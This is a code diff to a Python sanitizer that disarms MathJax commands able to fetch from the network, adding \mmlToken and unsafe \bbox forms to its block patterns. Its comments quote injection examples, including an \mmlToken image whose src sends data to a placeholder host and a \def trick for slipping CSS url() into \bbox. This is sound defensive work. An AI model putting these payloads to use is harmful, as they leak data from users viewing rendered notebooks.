@@ -210,16 +210,26 @@ def clean_css(css: str, *, private: bool, notes: Notes, where: str, why: str = P
 # The {url} group never spans markup or quote characters: replacing it must not
 # be able to change HTML/markdown structure around it.
 _TEX_LINK = re.compile(r"\\(href|url)(?![A-Za-z])(\s*\{([^{}<>\"'`]*)\})?")
-_TEX_FETCHING = re.compile(r"\\(style|htmlStyle|require)(?![A-Za-z])")
+#: Commands that fetch once private: ``\style`` (CSS ``url()``), ``\require``
+#: (loads code) and ``\mmlToken``, which makes any MathML token with its
+#: attributes: ``\mmlToken{mglyph}[src="//host/?d=..."]{}`` is an image that
+#: JupyterLab's MathJax (its SafeHandler included) loads from any host.
+_TEX_FETCHING = re.compile(r"\\(style|htmlStyle|require|mmlToken)(?![A-Za-z])")
+#: ``\bbox[options]`` takes CSS among its options; kept once private only as
+#: ``\bbox{`` or with options that hold no function (``url(``), escape or
+#: brace. Any other use is disarmed, since ``\def\b{\bbox}`` followed by
+#: ``\b[background:url(...)]`` reaches MathJax as the options it would fetch.
+_TEX_BBOX_UNSAFE = re.compile(r"\\bbox(?![A-Za-z])(?!\s*(?:\{|\[[^\]\\(){}&]*\]))")
 
 
 def clean_tex(text: str, *, private: bool, notes: Notes, where: str) -> str:
     """Make MathJax commands in ``text`` harmless.
 
     ``\\href{javascript:...}`` becomes a link to ``#``; ``\\href`` used any other
-    way (``\\let\\x\\href``) is disarmed. In private sessions ``\\style`` (CSS
-    ``url()``) and ``\\require`` (loads code) are disarmed too. JupyterLab also
-    filters these, but other frontends may not."""
+    way (``\\let\\x\\href``) is disarmed. In private sessions what can fetch is
+    disarmed too (:data:`_TEX_FETCHING`, a ``\\bbox`` whose options could hold
+    CSS). JupyterLab filters some of these itself, not all (``\\mmlToken``), and
+    other frontends may filter none."""
     if "\\" not in text:
         return text
 
@@ -241,6 +251,12 @@ def clean_tex(text: str, *, private: bool, notes: Notes, where: str) -> str:
             return "\\mathrm{" + m.group(1) + "}"
 
         text = _TEX_FETCHING.sub(fix_fetch, text)
+
+        def fix_bbox(m: re.Match[str]) -> str:
+            notes.add(f"\\bbox with CSS that could fetch disarmed in {where} ({PRIVATE_REASON})")
+            return "\\mathrm{bbox}"
+
+        text = _TEX_BBOX_UNSAFE.sub(fix_bbox, text)
     return text
 
 
